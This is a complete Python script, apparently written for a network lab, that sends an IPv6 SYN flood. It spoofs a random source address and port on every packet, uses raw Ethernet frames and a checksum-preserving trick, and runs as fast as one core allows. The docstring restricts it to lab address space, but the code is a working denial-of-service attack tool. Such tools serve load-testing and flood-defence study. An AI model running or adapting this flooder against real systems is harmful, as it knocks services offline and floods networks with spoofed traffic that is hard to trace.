#!/usr/bin/env python3
"""An IPv6 SYN flood from random sources, for the lab (hping3 has no IPv6).

    flood6.py --iface cli0 --dst-mac 02:..:.. --dst fd77:100::100 --port 80 --seconds 30
              [--prefix fd77:dead]

Writes Ethernet frames straight to IFACE (an AF_PACKET socket: no routing, no neighbour
lookup per packet) for SECONDS, as fast as one core allows: TCP SYNs to [DST]:PORT, each from
its own source address inside PREFIX::/32 (48 random bits) and its own source port. The
frames are built once; each packet only rewrites the random words in pairs (x, ~x), whose
one's-complement sum is the same for every x, so the TCP checksum computed once stays right
for all of them.

Prints "N packets transmitted" at the end, as hping3 does.

Only for the lab: the sources are inside fd77::/16 and the frames go to one interface of a
namespace the lab made.
"""

import argparse
import random
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def frame(src_mac, dst_mac, prefix, dst, port):
    """A SYN whose random words (source address 4-7 paired, source port with the high half
    of the sequence number) are at their neutral values (0, 0xffff)."""
    p = prefix.split(":")
    if len(p) != 2 or not all(p) or not all(len(w) <= 4 for w in p):
        raise SystemExit(f"--prefix must be two hex words, like fd77:dead (got {prefix})")
    src = bytes.fromhex(p[0].zfill(4) + p[1].zfill(4)) + struct.pack("!6H", 0, 0xFFFF, 0, 0xFFFF, 0, 0xFFFF)
    dst = socket.inet_pton(socket.AF_INET6, dst)
    tcp = struct.pack("!HHIIBBHHH", 0, port, 0xFFFF << 16, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!I3xB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + src + dst
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x86\xdd"
    return bytearray(eth + ip6 + tcp)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--iface", required=True)
    ap.add_argument("--dst-mac", required=True, help="the next hop's MAC (the director's)")
    ap.add_argument("--dst", required=True, help="the IPv6 VIP")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--prefix", default="fd77:dead", help="the sources' /32, as two hex words")
    a = ap.parse_args()
    if not 0 < a.seconds <= 600:
        raise SystemExit("--seconds must be in (0, 600]")
    with open(f"/sys/class/net/{a.iface}/address") as f:
        src_mac = f.read().strip()
    buf = frame(src_mac, a.dst_mac, a.prefix, a.dst, a.port)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    src_at = 14 + 8 + 4  # Ethernet, then the IPv6 header up to the source's 3rd word
    sport_at = 14 + 40
    seq_at = sport_at + 4
    pack, rnd, send = struct.pack_into, random.getrandbits, s.send
    sent = 0
    end = time.monotonic() + a.seconds
    try:
        while time.monotonic() < end:
            for _ in range(256):
                r = rnd(64)
                w0, w1, w2, w3 = r & 0xFFFF, (r >> 16) & 0xFFFF, (r >> 32) & 0xFFFF, r >> 48
                pack("!6H", buf, src_at, w0, w0 ^ 0xFFFF, w1, w1 ^ 0xFFFF, w2, w2 ^ 0xFFFF)
                pack("!H", buf, sport_at, w3 | 1024)
                pack("!H", buf, seq_at, (w3 | 1024) ^ 0xFFFF)
                try:
                    send(buf)
                    sent += 1
                except (BlockingIOError, OSError):
                    pass  # the interface's queue is full: that packet is lost, as with hping3
    except KeyboardInterrupt:
        pass
    print(f"{sent} packets transmitted")


if __name__ == "__main__":
    main()
